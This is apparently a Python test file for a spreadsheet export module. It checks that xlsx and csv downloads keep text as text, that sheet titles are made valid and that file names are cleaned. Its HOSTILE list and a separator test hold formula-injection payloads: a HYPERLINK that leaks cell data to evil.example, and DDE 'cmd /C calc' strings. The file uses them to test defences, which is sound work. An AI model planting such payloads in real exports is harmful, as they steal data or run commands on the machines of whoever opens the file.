"""The one way spreadsheets are written (server.web.downloads): text stays text, whatever it holds."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date, datetime

import pytest
from openpyxl import load_workbook

from server.web import downloads

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"点我领菜")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
)


def test_every_text_is_a_text_cell_never_a_formula():
    body = downloads.xlsx([("名单", [["姓名", "楼层"], *[[text, -1] for text in HOSTILE]])])
    with zipfile.ZipFile(io.BytesIO(body)) as book:
        sheet_xml = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and 't="e"' not in sheet_xml  # no formula, no error value
    sheet = load_workbook(io.BytesIO(body)).active
    rows = list(sheet.iter_rows(min_row=2))
    # Shown as typed (XML reads a carriage return as a line feed, Excel alike).
    assert [row[0].value for row in rows] == [text.replace("\r", "\n") for text in HOSTILE]
    assert all(row[0].data_type == "s" for row in rows)
    assert all(row[1].value == -1 and row[1].data_type == "n" for row in rows)  # a basement floor stays a number
    formula_like = [row[0] for row in rows if row[0].value.startswith(("=", "+", "-", "@", "\t", "\n"))]
    assert formula_like and all(cell.quotePrefix for cell in formula_like)  # and stays text when edited in Excel


def test_csv_neutralises_what_a_spreadsheet_would_run_and_keeps_numbers():
    body = downloads.csv_bytes([[text, -1, "正常的字"] for text in HOSTILE])
    assert body.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    for text, row in zip(HOSTILE, rows, strict=True):
        expected = "'" + text if text[0] in "=+-@\t\r" else text
        assert row == [expected, "-1", "正常的字"]


@pytest.mark.parametrize("separator", [";", "|"])
def test_csv_read_with_another_separator_starts_no_cell_with_a_formula(separator):
    """Issue 15, a Low: Excel in many locales splits a .csv on ";" (or "|"): an unquoted "a;=HYPERLINK(..)" became
    two cells, the second a formula."""
    hostile = [f'张三{separator}=HYPERLINK("http://evil.example","点我")', f"x{separator}+1+cmd|' /C calc'!A0"]
    body = downloads.csv_bytes([[text, 2] for text in hostile]).decode("utf-8-sig")
    for line in body.splitlines():
        assert line.startswith('"')  # the whole text one quoted cell, whatever splits it
    cells = [cell for row in csv.reader(io.StringIO(body), delimiter=separator) for cell in row]
    assert cells and not any(cell.lstrip().startswith(("=", "+", "-", "@")) for cell in cells), cells


def test_times_are_excel_times_and_odd_characters_do_not_break_the_file():
    moment = datetime(2022, 11, 24, 9, 12)
    body = downloads.xlsx([("t", [[moment, date(1948, 2, 3), "门铃\x00坏了\x1b", "x" * 40_000]])])
    row = next(load_workbook(io.BytesIO(body)).active.iter_rows())
    assert row[0].value == moment and row[0].is_date and row[0].number_format == downloads.DATETIME_FORMAT
    assert row[1].is_date and row[1].number_format == downloads.DATE_FORMAT
    assert row[2].value == "门铃坏了" and len(row[3].value) == downloads.CELL_MAX
    assert downloads.csv_bytes([[moment]]).decode("utf-8-sig").strip() == '"2022-11-24 09:12"'
    with pytest.raises(ValueError):  # a time zone is the caller's to settle: the community's clock
        downloads.xlsx([("t", [[datetime.now().astimezone()]])])


@pytest.mark.parametrize(
    ("title", "expected"),
    [
        ("12/7扫楼", "12／7扫楼"),  # the app's own default sweep name
        ("Revisit: 12/7扫楼", "Revisit： 12／7扫楼"),
        ("再访：12/7扫楼", "再访：12／7扫楼"),
        ("[a]*b?c\\d", "［a］＊b？c＼d"),
        ("'quoted'", "quoted"),
        ("", "Sheet 1"),
        ("   ", "Sheet 1"),
        ("History", "History 1"),  # reserved by Excel
        ("line\nbreak\ttab", "line break tab"),
        (
            "一二三四五六七八九十一二三四五六七八九十一二三四五六七八九十一二三",
            "一二三四五六七八九十一二三四五六七八九十一二三四五六七八九十一",
        ),
        ("🏠" * 20, "🏠" * 15),  # Excel counts UTF-16 units: 31 of them, no half character
    ],
)
def test_sheet_titles_are_made_valid(title, expected):
    assert downloads.sheet_title(title) == expected
    book = load_workbook(io.BytesIO(downloads.xlsx([(title, [["x"]])])))
    assert book.sheetnames == [expected]


def test_sheet_titles_are_unique_within_a_workbook():
    long = "十一月二十四日一号楼到十六号楼全体核酸扫楼结果汇总表"
    body = downloads.xlsx(
        [("12/7扫楼", [[1]]), ("12/7扫楼", [[2]]), ("12／7扫楼", [[3]]), (long, [[4]]), (long, [[5]])]
    )
    names = load_workbook(io.BytesIO(body)).sheetnames
    assert names[:3] == ["12／7扫楼", "12／7扫楼 (2)", "12／7扫楼 (3)"]
    assert len({n.casefold() for n in names}) == 5 and all(len(n) <= 31 for n in names)
    assert names[4].endswith(" (2)")


def test_file_names_keep_their_words_and_lose_what_no_system_takes():
    assert downloads.safe_filename("12/7扫楼.xlsx") == "12／7扫楼.xlsx"
    assert downloads.safe_filename('a\\b:c*d?"e"<f>|g\r\n.csv') == "a＼b：c＊d？＂e＂＜f＞｜g  .csv"
    assert downloads.safe_filename("..") == "export"
    header = downloads.attachment(b"", "12/7扫楼.xlsx").headers["Content-Disposition"]
    assert "/" not in header.split("''", 1)[1]
